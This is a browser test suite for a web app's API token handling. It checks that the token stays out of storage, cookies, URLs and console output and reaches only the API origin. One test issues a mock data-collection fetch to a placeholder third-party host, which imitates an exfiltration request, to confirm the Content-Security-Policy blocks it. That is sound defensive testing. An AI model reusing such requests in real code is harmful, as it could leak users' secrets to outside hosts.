// User story: an owner's token can read the organization's activity (and, with write scope,
// revoke seats). It stays in memory, goes only to the API URL, and the page's
// Content-Security-Policy would stop a request anywhere else.

import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import {
  useBrowser, newPage, assertNoProblems, connect, waitForSeats, accessList, browserRequests,
  eventually, seatCount, GOOD_TOKEN, API_ORIGIN, openApp, connectForm,
} from './harness.mjs';

useBrowser();

const ORG = 'acme';

/** Everything a page could have kept: storage, cookies, the URL history it went through. */
async function traces(page) {
  return page.evaluate(() => ({
    local: JSON.stringify({ ...localStorage }),
    session: JSON.stringify({ ...sessionStorage }),
    cookie: document.cookie,
    url: location.href,
  }));
}

describe('As an owner I trust the app with my token', () => {
  test('after a full session the token is in no storage, cookie, URL or console message, and went only to the API', async () => {
    const page = await newPage();
    const urls = [];
    const consoleText = [];
    page.on('framenavigated', (f) => urls.push(f.url()));
    page.on('console', (m) => consoleText.push(m.text()));
    await connect(page, { org: ORG });
    await waitForSeats(page, 3000);
    const list = accessList(page);
    await list.sortButton('User').click();
    await list.search.fill('an');
    await eventually(async () => assert.ok((await seatCount(page)) < 3000));
    const download = page.waitForEvent('download');
    await page.getByRole('button', { name: 'Download CSV' }).click();
    await download;
    await page.locator('table[aria-label="Seats"] tbody a').first().click();
    await page.getByRole('heading', { name: /Copilot seat of/ }).waitFor();
    await page.getByRole('link', { name: /All seats/ }).click();
    await list.table.waitFor();

    const t = await traces(page);
    for (const [where, text] of Object.entries(t)) assert.ok(!text.includes(GOOD_TOKEN), `token found in ${where}`);
    for (const url of urls) assert.ok(!url.includes(GOOD_TOKEN), `token in a URL: ${url}`);
    for (const text of consoleText) assert.ok(!text.includes(GOOD_TOKEN), 'token in the console');

    const requests = browserRequests(page);
    const withToken = requests.filter((r) => r.authorization !== null);
    assert.ok(withToken.length >= 31, `the seats, billing and member requests carried it (${withToken.length})`);
    for (const r of withToken) {
      assert.equal(new URL(r.url).origin, API_ORIGIN, `${r.url} got the token`);
      assert.equal(r.authorization, `Bearer ${GOOD_TOKEN}`);
    }
    for (const r of requests) assert.ok(!r.url.includes(GOOD_TOKEN), `token in ${r.url}`);
    console.log(`# metric requests_checked_for_token=${requests.length}`);
    await assertNoProblems(page);
  });

  test('"Remember on this device" keeps it in sessionStorage only, and "Forget token" removes it', async () => {
    const page = await newPage();
    await connect(page, { org: ORG, remember: true });
    await waitForSeats(page, 3000);
    let t = await traces(page);
    assert.ok(t.session.includes(GOOD_TOKEN), 'remembered in sessionStorage');
    assert.ok(!t.local.includes(GOOD_TOKEN) && !t.cookie.includes(GOOD_TOKEN) && !t.url.includes(GOOD_TOKEN));
    await page.reload();
    await connectForm(page).load.waitFor();
    assert.equal(await connectForm(page).token.inputValue(), GOOD_TOKEN, 'there after a reload');
    await page.getByRole('button', { name: 'Forget token' }).click();
    t = await traces(page);
    for (const [where, text] of Object.entries(t)) assert.ok(!text.includes(GOOD_TOKEN), `still in ${where}`);
    assert.equal(await connectForm(page).token.inputValue(), '');
    await assertNoProblems(page);
  });

  test('the Content-Security-Policy blocks a request to a third-party origin', async () => {
    const page = await newPage();
    await openApp(page);
    const outcome = await page.evaluate(async () => {
      const violation = new Promise((resolve) => {
        document.addEventListener('securitypolicyviolation', (e) => resolve({ blocked: e.blockedURI, directive: e.effectiveDirective }), { once: true });
      });
      let fetched = 'sent';
      try {
        await fetch('https://third-party.example/collect?t=x');
      } catch (e) {
        fetched = `refused: ${e.name}`;
      }
      return { fetched, violation: await violation };
    });
    assert.match(outcome.fetched, /^refused/);
    assert.equal(outcome.violation.directive, 'connect-src');
    assert.match(outcome.violation.blocked, /third-party\.example/);
    assert.ok(!browserRequests(page).some((r) => r.url.includes('third-party.example')), 'nothing left the browser');
    await page.context().close();
  });
});
